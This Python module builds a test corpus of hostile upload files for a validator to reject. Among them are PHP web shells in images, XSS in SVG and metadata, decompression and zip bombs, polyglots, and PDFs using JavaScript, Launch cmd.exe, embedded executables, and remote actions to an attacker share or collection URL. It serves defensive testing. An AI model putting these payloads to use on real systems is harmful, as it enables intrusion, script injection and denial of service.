"""Hostile files, made here so the corpus is reviewable: (id, kind, filename, declared
content type, bytes). Each one must be refused, whichever way it arrives."""

import io
import struct
import zipfile
import zlib

from PIL import Image


def _image(fmt, size=(40, 30), mode="RGB", **save):
    out = io.BytesIO()
    Image.new(mode, size, "#336699").save(out, fmt, **save)
    return out.getvalue()


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _png_bomb(width=30_000, height=30_000) -> bytes:
    """A small PNG that decodes to 900 megapixels of 1-bit black."""
    row = b"\x00" + b"\x00" * ((width + 7) // 8)
    compressed = zlib.compress(row * 200, 9)  # only the first rows; the header is the lie
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header)
            + _png_chunk(b"IDAT", compressed) + _png_chunk(b"IEND", b""))  # fmt: skip


def _gif_with_size(width, height) -> bytes:
    data = bytearray(_image("GIF"))
    data[6:10] = struct.pack("<HH", width, height)
    return bytes(data)


def _jpeg_with_size(width, height) -> bytes:
    data = bytearray(_image("JPEG"))
    marker = data.index(b"\xff\xc0")  # baseline frame header: height then width
    data[marker + 5 : marker + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def _corrupt_png_crc() -> bytes:
    data = bytearray(_image("PNG", size=(64, 64)))
    idat = data.index(b"IDAT")
    data[idat + 8] ^= 0xFF  # a byte of compressed data changes; its CRC no longer matches
    return bytes(data)


def _zip(entries: dict, compression=zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return out.getvalue()


def _docx_bomb() -> bytes:
    return _zip({"[Content_Types].xml": "<Types/>", "word/document.xml": b"\x00" * 50_000_000})


def _frames(fmt, count, size=(1, 1)):
    """An animation of ``count`` frames that differ (encoders merge identical ones)."""
    frames = [Image.new("RGB", size, (i % 2 * 255, 0, 0)) for i in range(count)]
    out = io.BytesIO()
    frames[0].save(out, fmt, save_all=True, append_images=frames[1:], duration=40, loop=0)
    return out.getvalue()


# One 1 x 1 image of a GIF: descriptor at (0, 0), no colour table, LZW data for one pixel.
_GIF_PIXEL = b"\x2c" + struct.pack("<HHHHB", 0, 0, 1, 1, 0) + b"\x02\x02\x44\x01\x00"


def _gif_frames(count, screen=(1, 1), extensions=b""):
    """A GIF built by hand: ``count`` one-pixel frames on a ``screen``-sized canvas (which
    every frame decodes to), after any extension blocks given."""
    header = b"GIF89a" + struct.pack("<HHBBB", *screen, 0x80, 0, 0) + b"\x00\x00\x00\xff\xff\xff"
    return header + extensions + _GIF_PIXEL * count + b"\x3b"


def _gif_extension(label: int, payload: bytes) -> bytes:
    blocks = b"".join(bytes([len(payload[i : i + 255])]) + payload[i : i + 255]
                      for i in range(0, len(payload), 255))  # fmt: skip
    return b"\x21" + bytes([label]) + blocks + b"\x00"


def _png_with_chunk(kind: bytes, data: bytes) -> bytes:
    png = _image("PNG")
    return png[:33] + _png_chunk(kind, data) + png[33:]  # after IHDR


def _webp_with_chunk(kind: bytes, data: bytes) -> bytes:
    webp = _image("WEBP")
    body = webp[12:] + kind + struct.pack("<I", len(data)) + data + b"\x00" * (len(data) % 2)
    return b"RIFF" + struct.pack("<I", len(body) + 4) + b"WEBP" + body


def _exif(**tags) -> bytes:
    exif = Image.Exif()
    for tag, value in tags.items():
        exif[{"artist": 0x013B, "description": 0x010E, "orientation": 0x0112}[tag]] = value
    return exif.tobytes()


def _exif_user_comment_utf16(text: str) -> bytes:
    exif = Image.Exif()
    exif.get_ifd(0x8769)[0x9286] = b"UNICODE\x00" + text.encode("utf-16-le")
    return exif.tobytes()


def _icc_with(markup: bytes) -> bytes:
    from PIL import ImageCms

    profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    return profile + markup  # tags index what they need; the rest is carried as is


def _zlib_text(keyword: bytes, text: bytes) -> bytes:
    return keyword + b"\x00\x00" + zlib.compress(text)


def pdf(objects: dict, *, packed=(), trailer=b"") -> bytes:
    """A well-formed PDF from {number: body}. Numbers in ``packed`` go into one compressed
    object stream, indexed by a cross-reference stream, as PDF 1.5+ writers do (their
    bytes then appear nowhere in the file as written)."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets, size = {}, max(objects) + 1
    for number, body in sorted(objects.items()):
        if number not in packed:
            offsets[number] = len(out)
            out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    if not packed:
        xref = len(out)
        out += b"xref\n0 %d\n0000000000 65535 f \n" % size
        for number in range(1, size):
            free = b"0000000000 65535 f \n"
            out += b"%010d 00000 n \n" % offsets[number] if number in offsets else free
        out += b"trailer\n<< /Size %d /Root 1 0 R %s>>\n" % (size, trailer)
        out += b"startxref\n%d\n%%%%EOF\n" % xref
        return bytes(out)
    stream_number, xref_number = size, size + 1
    header, bodies, index = [], b"", {}
    for position, number in enumerate(packed):
        header.append(b"%d %d" % (number, len(bodies)))
        bodies += objects[number] + b"\n"
        index[number] = position
    head = b" ".join(header) + b"\n"
    content = zlib.compress(head + bodies)
    offsets[stream_number] = len(out)
    out += (
        b"%d 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>\n"
        b"stream\n" % (stream_number, len(packed), len(head), len(content))
    )
    out += content + b"\nendstream\nendobj\n"
    offsets[xref_number] = len(out)
    rows = b""
    for number in range(xref_number + 1):
        if number in index:
            rows += b"\x02" + stream_number.to_bytes(4, "big") + index[number].to_bytes(2, "big")
        elif number in offsets:
            rows += b"\x01" + offsets[number].to_bytes(4, "big") + b"\x00\x00"
        else:
            rows += b"\x00\x00\x00\x00\x00\xff\xff"
    out += b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R %s/Length %d >>\nstream\n" % (
        xref_number,
        xref_number + 1,
        trailer,
        len(rows),
    )
    out += rows + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % offsets[xref_number]
    return bytes(out)  # fmt: skip


PDF_PAGES = {2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
             3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>"}  # fmt: skip


def _pdf_with(catalog_extra: bytes, *, packed=(), **objects) -> bytes:
    """One page, the catalog given extra entries, and objects 4, 5, … ("o4"=…)."""
    extra = {int(name[1:]): body for name, body in objects.items()}
    catalog = b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b" >>"
    return pdf({1: catalog, **PDF_PAGES, **extra}, packed=packed)


def _pdf_link(action: bytes) -> bytes:
    """One page whose one link annotation runs ``action`` when clicked."""
    page = (b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [<< /Type /Annot"
            b" /Subtype /Link /Rect [0 0 99 99] /A << " + action + b" >> >>] >>")  # fmt: skip
    return pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: PDF_PAGES[2], 3: page})


def _pdf_encrypted() -> bytes:
    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    writer.encrypt(user_password="secret", owner_password="owner", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


PDF_OK_TAIL = b"\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
SVG_SCRIPT = (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
              b"<script>alert(document.cookie)</script></svg>")  # fmt: skip
HTML = b"<!doctype html><html><body><script>alert(1)</script></body></html>"

JPEG, PNG, GIF, WEBP = "image/jpeg", "image/png", "image/gif", "image/webp"
PDF = "application/pdf"
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
ODT = "application/vnd.oasis.opendocument.text"

HOSTILE = [
    # id, kind, filename, declared type, bytes
    ("empty-image", "image", "empty.jpg", JPEG, b""),
    ("text-as-jpeg", "image", "notes.jpg", JPEG, b"just some text, not a picture"),
    ("html-as-png", "image", "page.png", PNG, HTML),
    ("svg-script-as-png", "image", "logo.png", PNG, SVG_SCRIPT),
    ("svg-script-as-webp", "image", "logo.webp", WEBP, SVG_SCRIPT),
    ("php-as-jpeg", "image", "shell.jpg", JPEG, b"<?php system($_GET['c']); ?>"),
    ("elf-as-gif", "image", "tool.gif", GIF, b"\x7fELF\x02\x01\x01" + b"\x00" * 200),
    ("exe-as-png", "image", "setup.png", PNG, b"MZ\x90\x00" + b"\x00" * 300),
    ("truncated-jpeg", "image", "half.jpg", JPEG, _image("JPEG", size=(400, 300))[:900]),
    ("truncated-png", "image", "half.png", PNG, _image("PNG", size=(300, 300))[:-40]),
    ("truncated-webp", "image", "half.webp", WEBP, _image("WEBP", size=(300, 300))[:60]),
    ("png-bad-crc", "image", "crc.png", PNG, _corrupt_png_crc()),
    ("png-bomb", "image", "bomb.png", PNG, _png_bomb()),
    ("gif-huge-dimensions", "image", "huge.gif", GIF, _gif_with_size(65_000, 65_000)),
    ("jpeg-huge-dimensions", "image", "huge.jpg", JPEG, _jpeg_with_size(60_000, 60_000)),
    ("tiff-not-allowed", "image", "scan.tiff", PNG, _image("TIFF")),
    ("bmp-not-allowed", "image", "old.png", PNG, _image("BMP")),
    ("ico-not-allowed", "image", "favicon.png", PNG, _image("ICO", size=(32, 32))),
    ("pdf-as-png", "image", "doc.png", PNG, b"%PDF-1.7\n1 0 obj<<>>endobj" + PDF_OK_TAIL),
    ("png-declared-jpeg", "image", "photo.jpg", JPEG, _image("PNG")),
    ("jpeg-named-png", "image", "photo.png", PNG, _image("JPEG")),
    ("gif-declared-webp", "image", "anim.webp", WEBP, _image("GIF")),
    ("jpeg-as-pdf", "document", "report.pdf", PDF, _image("JPEG")),
    ("html-as-pdf", "document", "report.pdf", PDF, HTML),
    ("pdf-with-javascript", "document", "form.pdf", PDF,
     _pdf_with(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>")),
    ("pdf-with-launch", "document", "open.pdf", PDF,
     _pdf_with(b"/OpenAction << /S /Launch /F (cmd.exe) >>")),
    ("pdf-truncated", "document", "cut.pdf", PDF, b"%PDF-1.7\n1 0 obj<<>>endobj\n"),
    ("docx-random-zip", "document", "letter.docx", DOCX, _zip({"hello.txt": "hi"})),
    ("docx-not-a-zip", "document", "letter.docx", DOCX, b"PK\x03\x04 broken"),
    ("docx-zip-bomb", "document", "huge.docx", DOCX, _docx_bomb()),
    ("docx-with-macros", "document", "macro.docx", DOCX,
     _zip({"[Content_Types].xml": "<Types/>", "word/document.xml": "<w/>",
           "word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})),
    ("xlsx-that-is-docx", "document", "sheet.xlsx", XLSX,
     _zip({"[Content_Types].xml": "<Types/>", "word/document.xml": "<w/>"})),
    ("odt-wrong-mimetype", "document", "text.odt", ODT,
     _zip({"mimetype": "application/x-evil", "content.xml": "<x/>"}, zipfile.ZIP_STORED)),
    ("html-as-text", "document", "readme.txt", "text/plain", HTML),
    ("svg-as-text", "document", "drawing.txt", "text/plain", SVG_SCRIPT),
    ("binary-as-csv", "document", "data.csv", "text/csv", b"a,b\n\x00\x01\x02\x03"),
    ("latin1-as-text", "document", "old.txt", "text/plain", "café crème".encode("latin-1")),
    ("pdf-declared-docx", "document", "report.docx", DOCX, b"%PDF-1.7\n" + PDF_OK_TAIL),
    # Animations past the frame cap, or whose frames together decode past the pixel limit.
    ("gif-thousands-of-frames", "image", "anim.gif", GIF, _gif_frames(3000)),
    ("gif-frames-times-pixels", "image", "anim.gif", GIF, _gif_frames(60, screen=(1000, 1000))),
    ("apng-thousands-of-frames", "image", "anim.png", PNG, _frames("PNG", 2000)),
    ("webp-thousands-of-frames", "image", "anim.webp", WEBP, _frames("WEBP", 2000)),
    # Data after the format's end marker: a polyglot with an archive, a page or a script.
    ("jpeg-zip-after-eoi", "image", "photo.jpg", JPEG, _image("JPEG") + _zip({"x.php": "<?php"})),
    ("jpeg-script-after-eoi", "image", "photo.jpg", JPEG, _image("JPEG") + b"\n<script>x</script>"),
    ("png-html-after-iend", "image", "logo.png", PNG, _image("PNG") + HTML),
    ("png-zip-after-iend", "image", "logo.png", PNG, _image("PNG") + _zip({"a.js": "alert(1)"})),
    ("gif-php-after-trailer", "image", "anim.gif", GIF, _image("GIF") + b"<?php system($_GET[0]);"),
    ("webp-zip-after-riff", "image", "photo.webp", WEBP, _image("WEBP") + _zip({"a": "b"})),
    ("jpeg-junk-after-zero-padding", "image", "photo.jpg", JPEG,
     _image("JPEG") + b"\x00" * 16 + b"MZ\x90\x00"),
    # Markup or code hidden in metadata.
    ("jpeg-exif-script", "image", "photo.jpg", JPEG,
     _image("JPEG", exif=_exif(artist="<script>alert(1)</script>"))),
    ("jpeg-exif-utf16-script", "image", "photo.jpg", JPEG,
     _image("JPEG", exif=_exif_user_comment_utf16("<script>alert(1)</script>"))),
    ("jpeg-comment-php", "image", "photo.jpg", JPEG,
     _image("JPEG", comment=b"<?php system($_GET['c']); ?>")),
    ("jpeg-xmp-svg", "image", "photo.jpg", JPEG,
     _image("JPEG", xmp=b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><svg onload="alert(1)"/>')),
    ("jpeg-xmp-event-handler", "image", "photo.jpg", JPEG,
     _image("JPEG", xmp=b'<x:xmpmeta xmlns:x="adobe:ns:meta/" onmouseover="alert(1)"/>')),
    ("jpeg-icc-html", "image", "photo.jpg", JPEG,
     _image("JPEG", icc_profile=_icc_with(HTML))),
    ("png-text-script", "image", "logo.png", PNG,
     _png_with_chunk(b"tEXt", b"Comment\x00<script>alert(1)</script>")),
    ("png-ztxt-php", "image", "logo.png", PNG,
     _png_with_chunk(b"zTXt", _zlib_text(b"Comment", b"<?php eval($_POST[1]); ?>"))),
    ("png-itxt-javascript-url", "image", "logo.png", PNG,
     _png_with_chunk(b"iTXt", b"URL\x00\x00\x00en\x00\x00javascript:alert(document.domain)")),
    ("png-itxt-compressed-html", "image", "logo.png", PNG,
     _png_with_chunk(b"iTXt", b"XML:com.adobe.xmp\x00\x01\x00\x00\x00" + zlib.compress(HTML))),
    ("png-exif-script", "image", "logo.png", PNG,
     _image("PNG", exif=_exif(description="<img src=x onerror=alert(1)>"))),
    ("png-iccp-script", "image", "logo.png", PNG,
     _png_with_chunk(b"iCCP", _zlib_text(b"icc", _icc_with(b"<script>alert(1)</script>")))),
    ("png-ztxt-bomb", "image", "logo.png", PNG,
     _png_with_chunk(b"zTXt", _zlib_text(b"Comment", b"A" * 50_000_000))),
    ("gif-comment-script", "image", "anim.gif", GIF,
     _gif_frames(1, extensions=_gif_extension(0xFE, b"<script>alert(1)</script>"))),
    ("gif-xmp-html", "image", "anim.gif", GIF,
     _gif_frames(1, extensions=_gif_extension(0xFF, b"XMP DataXMP" + HTML))),
    ("webp-exif-script", "image", "photo.webp", WEBP,
     _image("WEBP", exif=_exif(artist="<script>alert(1)</script>"))),
    ("webp-xmp-javascript", "image", "photo.webp", WEBP,
     _webp_with_chunk(b"XMP ", b'<x:xmpmeta><a href="javascript:alert(1)"/></x:xmpmeta>')),
    ("webp-unknown-chunk-html", "image", "photo.webp", WEBP, _webp_with_chunk(b"ZZZZ", HTML)),
    # Active content in PDFs, however the names are written and wherever the objects are.
    ("pdf-js-name-escaped", "document", "form.pdf", PDF,
     _pdf_with(b"/OpenAction 4 0 R", o4=b"<< /S /Java#53cript /J#53 (app.alert(1)) >>")),
    ("pdf-javascript-in-object-stream", "document", "form.pdf", PDF,
     _pdf_with(b"/Names 4 0 R", packed=(4, 5, 6), o4=b"<< /JavaScript 5 0 R >>",
               o5=b"<< /Names [(a) 6 0 R] >>", o6=b"<< /S /JavaScript /JS (app.alert(1)) >>")),
    ("pdf-launch-escaped", "document", "open.pdf", PDF, _pdf_link(b"/S /L#61unch /F (cmd.exe)")),
    ("pdf-embedded-file-escaped", "document", "attach.pdf", PDF,
     _pdf_with(b"/Names << /Embedded#46iles 4 0 R >>", o4=b"<< /Names [(a.exe) 5 0 R] >>",
               o5=b"<< /Type /Filespec /F (a.exe) /E#46 << /F 6 0 R >> >>",
               o6=b"<< /Type /Embedded#46ile /Length 2 >>\nstream\nMZ\nendstream")),
    ("pdf-page-additional-action", "document", "page.pdf", PDF,
     pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: PDF_PAGES[2],
          3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /A#41 << /O 4 0 R >> >>",
          4: b"<< /S /Named /N /NextPage >>"})),
    ("pdf-submit-form", "document", "form.pdf", PDF,
     _pdf_link(b"/S /SubmitForm /F (https://collect.example/)")),
    ("pdf-xfa-form", "document", "form.pdf", PDF,
     _pdf_with(b"/AcroForm << /Fields [] /XFA 4 0 R >>",
               o4=b"<< /Length 0 >>\nstream\n\nendstream")),
    ("pdf-remote-goto", "document", "link.pdf", PDF,
     _pdf_link(b"/S /GoToR /F (\\\\attacker\\share\\x.pdf) /D [0 /Fit]")),
    ("pdf-uri-javascript", "document", "link.pdf", PDF,
     _pdf_link(b"/S /URI /URI ( JavaScript:alert(1))")),
    ("pdf-richmedia", "document", "movie.pdf", PDF, _pdf_with(b"/X << /Subtype /RichMedia >>")),
    ("pdf-encrypted", "document", "secret.pdf", PDF, _pdf_encrypted()),
    ("pdf-no-pages", "document", "empty.pdf", PDF,
     pdf({1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [] /Count 0 >>"})),
]  # fmt: skip


def valid_jpeg(size=(1600, 1000)) -> bytes:
    return _image("JPEG", size=size, quality=85)


def valid_png(size=(500, 400)) -> bytes:
    return _image("PNG", size=size, mode="RGBA")


def valid_pdf() -> bytes:
    return _pdf_with(b"/OpenAction [3 0 R /Fit]")


def valid_docx() -> bytes:
    return _zip({"[Content_Types].xml": "<Types/>", "word/document.xml": "<w:document/>"})
